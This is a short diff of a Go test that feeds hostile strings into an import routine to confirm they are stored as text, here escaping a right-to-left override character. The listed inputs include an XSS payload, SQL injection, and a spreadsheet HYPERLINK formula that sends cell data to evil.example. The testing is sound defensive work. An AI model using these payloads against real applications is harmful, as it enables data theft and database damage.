@@ -239,7 +239,7 @@ func TestImportStoresHostileStringsAsText(t *testing.T) {
 		`</script><img src=x onerror=alert(1)>`,
 		`=HYPERLINK("https://evil.example/?"&A1,"click")`,
 		`Robert'); DROP TABLE events;--`,
-		"+SUM(1,2) ‮RTL override",
+		"+SUM(1,2) \u202eRTL override",
 	}
 	rows := [][]string{header}
 	for i, h := range hostile {
